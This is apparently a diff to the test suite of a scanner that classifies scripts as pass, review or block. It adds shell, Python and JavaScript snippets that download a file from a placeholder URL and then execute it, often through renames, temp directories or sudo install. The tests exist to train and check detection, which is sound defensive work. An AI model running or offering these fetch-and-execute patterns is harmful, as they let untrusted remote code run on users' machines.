@@ -18,6 +18,9 @@ describe('a shell script', () => {
     `cd "$(mktemp -d)"; curl -so a/x.sh ${U}; cd a; sh ./x.sh`,
     `d=$(mktemp -d)\ncurl -so "$d/x.sh" ${U}\nbash "$d/x.sh"`,
     `curl -so "$TARGET/bin/x.sh" ${U}\ncd "$TARGET"; bin/x.sh`,
+    `curl -s ${U} > /tmp/a\nmv /tmp/a /tmp/b\nsh /tmp/b`,
+    `f=$(mktemp); curl -so "$f" ${U}; cp "$f" /tmp/b; /tmp/b`,
+    `curl -so x ${U}; sudo install -m 755 x /opt/; /opt/x`,
   ])('that runs what it fetched is stopped: %s', async (text) => {
     expect(await decision('a.sh', `#!/bin/bash\n${text}\n`)).toBe('block');
   });
@@ -33,6 +36,8 @@ describe('a shell script', () => {
     `mkdir /tmp/x; cd /tmp/x; curl -s ${U} | tar xz --strip-components=1; ./install.sh`,
     `d=$(mktemp -d); curl -s ${U} | tar xz -C "$d"; "$d/install.sh"`,
     `curl -sO ${U}/x.sh\necho "${DIGEST}  x.sh" | sha256sum -c -\nbash x.sh`,
+    `curl -so /usr/local/bin/tool ${U}; chmod +x /usr/local/bin/tool; tool --start`,
+    `curl -so x ${U}\nsudo mv x /usr/local/bin/tool\ntool --start`,
     `cd /tmp && curl -sO ${U}/x.sh && sha256sum --check <<< "${DIGEST}  x.sh" && sh /tmp/x.sh`,
   ])('is held that unpacks or compares a digest before: %s', async (text) => {
     expect(await decision('a.sh', `#!/bin/bash\n${text}\n`)).toBe('review');
@@ -58,6 +63,10 @@ describe('a shell script', () => {
     `curl -s ${U}/data.tgz | tar tz; ./data/train.sh`,
     `wget ${U}/model.bin; tar czf out.tgz model.bin; ./out/run.sh`,
     `(cd /tmp; curl -so x.sh ${U})\n./x.sh.example`,
+    `curl -so bin/tool.json ${U}; tool --start`,
+    `curl -Lso /usr/local/bin/kind https://github.com/a/kind/releases/download/v1/kind; kind create`,
+    `curl -so /usr/local/bin/tool ${U}; ls tool`,
+    `curl -so a.csv ${U}; mv a.csv b.csv; ./b.sh b.csv`,
     `git clone https://github.com/a/b; cd b; python -m pip install .`,
     `f() { cd /tmp; curl -so x.json ${U}; }; f; ./x.json.sh`,
   ])('that runs its own programs passes: %s', async (text) => {
@@ -84,13 +93,20 @@ describe('a Dockerfile', () => {
 
 describe('a Python program', () => {
   const IMPORTS =
-    'import os, shutil, subprocess, tarfile, tempfile, zipfile\nfrom pathlib import Path\nfrom urllib.request import urlretrieve\n';
+    'import os, shutil, subprocess, sys, tarfile, tempfile, zipfile\nfrom pathlib import Path\nfrom urllib.request import urlopen, urlretrieve\n';
 
   it.each([
     `d = tempfile.mkdtemp()\np = os.path.join(d, "x.sh")\nurlretrieve("${U}", p)\nsubprocess.run(["bash", p])`,
     `d = tempfile.mkdtemp()\nurlretrieve("${U}", os.path.join(d, "x"))\nsubprocess.run([os.path.join(d, "x")])`,
     `d = Path(tempfile.mkdtemp())\nurlretrieve("${U}", d / "x")\nsubprocess.run(["sh", str(d / "x")])`,
     `d = tempfile.mkdtemp()\nurlretrieve("${U}", f"{d}/x")\nsubprocess.run(["sh", f"{d}/x"])`,
+    `urlretrieve("${U}", os.path.join(os.getenv("TEMP"), "x"))\nsubprocess.Popen(os.path.join(os.getenv("TEMP"), "x"))`,
+    `p = os.path.join(tempfile.gettempdir(), "x")\nurlretrieve("${U}", p)\nos.system("sh " + p)`,
+    `f = tempfile.NamedTemporaryFile(delete=False)\nf.write(urlopen("${U}").read())\nsubprocess.run([f.name])`,
+    `p = Path.home() / ".cache" / "x"\np.write_bytes(urlopen("${U}").read())\nsubprocess.run([p])`,
+    `urlretrieve("${U}", "a")\nos.rename("a", "b")\nsubprocess.run(["./b"])`,
+    `d = tempfile.mkdtemp()\nurlretrieve("${U}", os.path.join(d, "helper.py"))\nsys.path.insert(0, d)\nimport helper`,
+    `def fetch(url):\n    f, path = tempfile.mkstemp()\n    with os.fdopen(f, "wb") as out:\n        out.write(urlopen(url).read())\n    return path\nsubprocess.run([fetch("${U}")])`,
   ])('that starts what it fetched is stopped: %s', async (text) => {
     expect(await decision('a.py', `${IMPORTS}${text}\n`)).toBe('block');
   });
@@ -106,8 +122,28 @@ describe('a Python program', () => {
 
   it.each([
     `d = tempfile.mkdtemp()\nurlretrieve("${U}", os.path.join(d, "a.csv"))\nsubprocess.run(["sh", os.path.join(d, "x")])`,
+    `urlretrieve("${U}", os.path.join(os.getenv("TEMP"), "x"))\nsubprocess.Popen(os.path.join(os.getenv("HOME"), "x"))`,
+    `f = tempfile.NamedTemporaryFile()\nf.write(urlopen("${U}").read())\nsubprocess.run(["wc", "-l", f.name])`,
+    `urlretrieve("${U}", "a")\nos.rename("a", "b")\nsubprocess.run(["./a.sh"])`,
     `urlretrieve("${U}/t.tgz", "t.tgz")\nshutil.unpack_archive("t.tgz", "data")\nsubprocess.run(["bin/train", "data/a.csv"])`,
   ])('that starts something else passes: %s', async (text) => {
     expect(await decision('a.py', `${IMPORTS}${text}\n`)).toBe('pass');
+  });
+});
+
+describe('a JavaScript program', () => {
+  const IMPORTS =
+    'const fs = require("fs"), os = require("os"), path = require("path"), cp = require("child_process");\n';
+
+  it.each([
+    `const p = path.join(os.tmpdir(), "x");\n(async () => { fs.writeFileSync(p, await (await fetch("${U}")).text()); cp.execSync("node " + p); })();`,
+    `(async () => { fs.writeFileSync("a", await (await fetch("${U}")).text()); fs.renameSync("a", "b.js"); cp.fork("b.js"); })();`,
+  ])('that starts what it fetched is stopped: %s', async (text) => {
+    expect(await decision('a.js', `${IMPORTS}${text}\n`)).toBe('block');
+  });
+
+  it('that starts something else passes', async () => {
+    const text = `const p = path.join(os.tmpdir(), "x");\n(async () => { fs.writeFileSync(p, await (await fetch("${U}")).text()); cp.execSync("node run.js " + p); })();`;
+    expect(await decision('a.js', `${IMPORTS}${text}\n`)).toBe('pass');
   });
 });
